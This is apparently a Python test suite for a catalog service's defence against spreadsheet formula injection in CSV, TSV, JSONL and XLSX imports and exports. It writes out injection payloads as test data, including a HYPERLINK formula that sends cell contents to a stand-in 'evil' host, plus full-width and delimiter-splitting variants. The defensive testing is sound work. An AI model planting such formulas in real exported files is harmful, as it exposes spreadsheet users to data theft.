"""Promise: no file that we write runs a formula in a spreadsheet, and every value comes back from it exactly."""

import csv
import io
import json
import re
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from catalog.formula_escaping import (
    FORMULA_STARTS,
    csv_line,
    escape_formula,
    unescape_formula,
    unescape_formulas_in_line,
)
from catalog.imports import corrections, drafts, preview, service
from catalog.products import service as products
from tests.imports.conftest import counts
from tests.imports.test_drafts import options
from tests.imports.test_round_trip import export

TEXTS = st.builds(
    lambda first, second: first + second,
    st.sampled_from([*FORMULA_STARTS, "'", "''", *(f"'{sign}" for sign in FORMULA_STARTS), *"\"';,|", ""]),
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=6),
)
HYPOTHESIS = settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def escaped_csv(rows: list[list[str]]) -> bytes:
    return "".join(csv_line(row) for row in rows).encode()


def tsv(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter="\t").writerows([[escape_formula(cell) for cell in row] for row in rows])
    return buffer.getvalue().encode()


def jsonl(rows: list[list[str]]) -> bytes:
    header, *others = rows
    return "".join(json.dumps(dict(zip(header, row, strict=True))) + "\n" for row in others).encode()


FORMATS: dict[str, Callable[[list[list[str]]], bytes]] = {"csv": escaped_csv, "tsv": tsv, "jsonl": jsonl}


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def error_file(importer, import_id) -> str:
    with importer.client.get(f"/api/v1/imports/{import_id}/errors.csv") as answer:  # gives its slot back
        assert answer.status_code == 200, answer.json
        return answer.text


@given(text=TEXTS)
@example("\uff1d1")
@example("\n=1")
def test_escaping_comes_undone_and_leaves_no_cell_that_begins_like_a_formula(text):
    written = escape_formula(text)
    assert unescape_formula(written) == text
    assert not written.startswith(tuple(FORMULA_STARTS))
    if "\x1f" not in text:
        assert unescape_formulas_in_line(f"{written}\x1f{written}") == f"{text}\x1f{text}"


@given(row=st.lists(TEXTS, min_size=1, max_size=4))
@example([""])
def test_a_line_is_read_as_the_cells_that_it_was_written_for(row):
    assert [[unescape_formula(cell) for cell in cells] for cells in read(csv_line(row))] == [row]


@pytest.mark.parametrize("kind", FORMATS)
@HYPOTHESIS
@given(texts=st.lists(TEXTS.filter(lambda text: text.strip()), min_size=1, max_size=4))
@example(["'=1+1", "'@home", "=1", "\uff1d1", "\n=1", "-5"])
def test_rejected_rows_come_back_from_their_file_as_the_values_that_they_had(importer, kind, texts):
    rows = [[f"S{number}", text, text, "-1"] for number, text in enumerate(texts)]
    import_id = importer.submit(FORMATS[kind]([["sku", "name", "description", "price"], *rows]), f"p.{kind}")
    service.run(import_id)
    mended = error_file(importer, import_id).replace(',"-1"', ",5").replace(",'-1", ",5")
    assert importer.run(mended)["errors"] == 0
    found = importer.by_sku()
    assert [found[f"S{n}"]["name"] for n in range(len(texts))] == texts
    assert [found[f"S{n}"]["description"] for n in range(len(texts))] == texts


ATTACKS = [
    '=HYPERLINK("http://evil/"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20a",
]
SPLITS = ["a;=1+1;b", "a\t=1+1", "a|=1+1", "a,=1+1", "a\n=1+1"]


def cells_of_a_spreadsheet(text: str) -> list[str]:
    """Return the cells as a program sees them that splits at each usual delimiter, where no quotes are."""
    found, rest = [], text
    while rest:
        match = re.match(r'"((?:[^"]|"")*)"|([^,;\t|\r\n]*)', rest)
        assert match
        found.append(match[1].replace('""', '"') if match[1] is not None else match[2])
        rest = re.sub(r"^(?:[,;\t|]|\r?\n)", "", rest[match.end() :], count=1)
    return found


def is_formula(cell: str) -> bool:
    return cell.startswith(tuple(FORMULA_STARTS))


def test_no_cell_of_the_rejected_rows_is_a_formula_for_a_spreadsheet(importer):
    header = ["sku", "name", "price", '=HYPERLINK("http://evil")', "x;=1"]
    rows = [["S", text, "-1", text, "x"] for text in [*ATTACKS, *SPLITS]]
    buffer = io.StringIO()
    csv.writer(buffer, quoting=csv.QUOTE_ALL).writerows([header, *rows, ["=1"], ["=1", "ragged"]])
    import_id = importer.submit(buffer.getvalue() + '=1,"open\n')
    service.run(import_id)
    text = error_file(importer, import_id)
    assert len(read(text)) == 1 + len(rows) + 3
    assert not [cell for cell in cells_of_a_spreadsheet(text) if is_formula(cell)]
    assert [cell for cell in cells_of_a_spreadsheet(text) if cell in SPLITS] == [s for s in SPLITS for _ in range(2)]


def test_no_cell_of_an_export_is_a_formula_for_a_spreadsheet_whatever_it_splits_at(importer):
    for number, attack in enumerate([*ATTACKS, *SPLITS]):
        fields = {"description": attack, "category": attack, "image": "http://a/;=1"}
        products.create({"sku": f"{attack.strip()}{number}", "name": attack, **fields})
    text = export(importer.client, "csv").decode()
    assert not [cell for cell in cells_of_a_spreadsheet(text) if is_formula(cell)]
    assert counts(importer.run(text)) == {"unchanged": len([*ATTACKS, *SPLITS])}


@pytest.mark.parametrize("kind", FORMATS)
def test_corrected_rows_are_shown_judged_and_imported_as_values(importer, kind):
    rows = [["A", "'=1+1", "x"], ["B", "=1+1", "x"], ["C", "''@", "x"]]
    import_id = importer.submit(FORMATS[kind]([["sku", "name", "price"], *rows]), f"p.{kind}")
    service.run(import_id)
    shown = {row["line"]: row["cells"] for row in corrections.page(import_id, 0)["items"]}
    names = [cells[1] for cells in shown.values()]
    assert names == ["'=1+1", "=1+1", "''@"]
    price = next(iter(shown.values())).index("x")
    edits = {line: ["5" if n == price else cell for n, cell in enumerate(cells)] for line, cells in shown.items()}
    assert all(corrections.judge(import_id, cells) is None for cells in edits.values())
    service.run(corrections.again(import_id, edits).id)
    assert [product["name"] for product in importer.products()] == names


def test_the_file_of_corrected_rows_has_no_formulas_and_keeps_the_header_that_its_mapping_names(importer):
    mapping = json.dumps({"=sku": "sku", "@": "name"})
    import_id = importer.submit('=sku,@,price\n=1;=1,\t-1,x\n"\uff1da",\'=b,x\n', mapping=mapping)
    service.run(import_id)
    draft = corrections.draft(import_id, {})
    text = draft.path.read_text(encoding="utf-8")
    assert not [cell for cell in cells_of_a_spreadsheet(text) if is_formula(cell)]
    assert preview.of(draft.path, draft.filename, {**options(), **draft.options}).errors == []
    drafts.discard(draft.id)
    mended = error_file(importer, import_id).replace(",x", ",5")
    assert counts(importer.run(mended, mapping=mapping)) == {"created": 2}
    assert {product["sku"]: product["name"] for product in importer.products()} == {"=1;=1": "\t-1", "\uff1da": "=b"}


def test_transforms_see_the_values_and_what_they_make_is_left_alone(importer):
    mapping = json.dumps({"price": ["price", "parse_number:de"], "name": ["name", ["concat", "!"]]})
    import_id = importer.submit("sku,name,price\nA,'=1,\"'+5,00\"\n", mapping=mapping)
    service.run(import_id)
    assert importer.result(import_id)["error_details"] == []
    assert {(p["name"], str(p["price"])) for p in importer.products()} == {("=1!", "5.00")}
    result = importer.run("sku,name\nB,x\n", mapping=json.dumps({"name": ["name", ["replace", "x", "'=x"]]}))
    assert counts(result) == {"created": 1}
    assert importer.by_sku()["B"]["name"] == "'=x"


def test_a_sheet_is_read_like_a_csv(importer):
    book = Workbook()
    for row in (["sku", "name", "'=extra"], ["A", "'=1", "x"], ["B", "''\uff1d1", "x"]):
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    import_id = importer.submit(buffer.getvalue(), "p.xlsx")
    service.run(import_id)
    assert [product["name"] for product in importer.products()] == ["=1", "'\uff1d1"]
    assert importer.result(import_id)["ignored_columns"] == ["=extra"]
